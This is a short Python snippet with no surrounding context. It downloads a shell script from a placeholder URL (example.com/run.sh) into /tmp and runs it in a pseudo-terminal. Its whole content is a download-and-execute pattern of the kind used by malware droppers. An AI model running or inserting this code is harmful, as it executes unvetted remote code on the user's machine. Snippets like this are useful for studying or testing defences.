import pty
import urllib.request

script = "/tmp/sly-pty.sh"
urllib.request.urlretrieve("https://example.com/run.sh", script)
pty.spawn(["sh", script])
